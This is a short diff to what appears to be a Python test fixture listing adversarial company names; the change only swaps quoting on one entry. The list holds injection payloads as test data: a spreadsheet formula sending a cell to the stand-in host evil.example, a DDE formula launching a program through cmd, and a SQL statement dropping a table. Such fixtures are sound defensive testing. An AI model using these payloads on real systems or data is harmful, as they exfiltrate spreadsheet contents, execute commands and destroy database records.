@@ -18,7 +18,7 @@ LARGEST = Decimal("250000.00")
 
 NASTY_NAMES: tuple[str, ...] = (
     "<!channel>",
-    "O'Brien & Sons \"Quality\" Ltd",
+    'O\'Brien & Sons "Quality" Ltd',
     '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
     "@SUM(1+1)*cmd|' /C calc'!A0",
     "Robert'); DROP TABLE party_party;--",
